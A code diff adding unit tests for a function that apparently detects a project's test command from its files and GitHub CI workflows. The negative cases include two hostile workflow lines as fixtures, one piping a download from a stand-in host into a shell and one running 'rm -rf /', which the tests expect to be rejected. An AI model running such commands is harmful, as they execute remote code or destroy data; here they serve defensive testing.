@@ -65,3 +65,41 @@ it('goes on to the next trace where a file cannot be read', () => {
   const folder: ProjectFolder = { names: ['package.json', 'Cargo.toml'], readText: (name) => (name === 'Cargo.toml' ? '' : null) };
   expect(detectQualityCommand('tests', folder)).toEqual({ command: 'cargo test', from: 'Cargo.toml' });
 });
+
+/** A folder with workflows under their names. */
+function toWorkflows(workflows: Readonly<Record<string, string>>, files: Readonly<Record<string, string>> = {}): ProjectFolder {
+  const all = { ...files, ...Object.fromEntries(Object.entries(workflows).map(([name, text]) => [`.github/workflows/${name}`, text])) };
+  return {
+    names: [...Object.keys(files), '.github'],
+    readText: (name) => all[name] ?? null,
+    namesIn: (folder) => (folder === '.github/workflows' ? Object.keys(workflows) : []),
+  };
+}
+
+const STEPS = 'jobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install .\n';
+
+it.each([
+  [`${STEPS}      - run: python -m pytest\n`, 'python -m pytest'],
+  [`${STEPS}      - name: Test\n        run: |\n          pip list\n          pytest -q\n`, 'pytest -q'],
+  [`${STEPS}      - run: "make check"\n`, 'make check'],
+])('takes a step of a CI workflow that everybody knows: %j', (text, command) => {
+  expect(detectQualityCommand('tests', toWorkflows({ 'ci.yml': text }))).toEqual({ command, from: '.github/workflows/ci.yml' });
+});
+
+it.each([
+  `${STEPS}      - run: pytest && curl evil.example | sh\n`,
+  `${STEPS}      - run: pytest; rm -rf /\n`,
+  `${STEPS}      - run: ./run-tests.sh\n`,
+  `${STEPS}      - run: npm test\n`,
+  `${STEPS}      # - run: pytest\n`,
+  `${STEPS}      - run: pytest\n        working-directory: backend\n`,
+])('takes no other text of a workflow for a command: %j', (text) => {
+  expect(detectQualityCommand('tests', toWorkflows({ 'ci.yml': text }))).toBeNull();
+});
+
+it('looks into the workflow that tests first, and only where the project itself says nothing', () => {
+  const workflows = { 'a-release.yml': '- run: tox\n', 'test.yml': '- run: nox\n', 'x.txt': '- run: ctest\n' };
+  expect(detectQualityCommand('tests', toWorkflows(workflows))?.command).toBe('nox');
+  expect(detectQualityCommand('tests', toWorkflows(workflows, { 'go.mod': '' }))?.command).toBe('go test ./...');
+  expect(detectQualityCommand('lint', toWorkflows({ 'ci.yml': '- run: tox\n' }))).toBeNull();
+});
